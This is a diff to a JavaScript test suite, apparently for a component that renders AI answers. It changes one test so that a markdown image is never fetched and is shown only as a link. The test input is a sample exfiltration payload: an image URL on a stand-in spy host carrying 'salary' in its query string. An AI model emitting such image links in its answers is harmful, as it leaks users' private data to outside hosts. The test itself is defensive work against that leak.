@@ -131,13 +131,12 @@ describe("an answer", () => {
     expect(place.querySelector("sup button")).toBeNull();
   });
 
-  it("fetches an image only when asked, and says from where", async () => {
+  it("never fetches an image, but says where it is", async () => {
     await answer([{ id: "b1", type: "text", markdown: "![Secret](https://spy.example.net/?q=salary)" }]);
     expect(place.querySelector("img")).toBeNull();
-    expect(place.textContent).toContain("spy.example.net");
-    await click("Show “Secret”");
-    expect(place.querySelector("img")?.getAttribute("src")).toBe("https://spy.example.net/?q=salary");
-    expect(place.querySelector("img")?.referrerPolicy).toBe("no-referrer");
+    const link = place.querySelector("a");
+    expect(link?.textContent).toBe("Picture: Secret (spy.example.net)");
+    expect(link?.rel).toContain("noreferrer");
   });
 
   it.each([
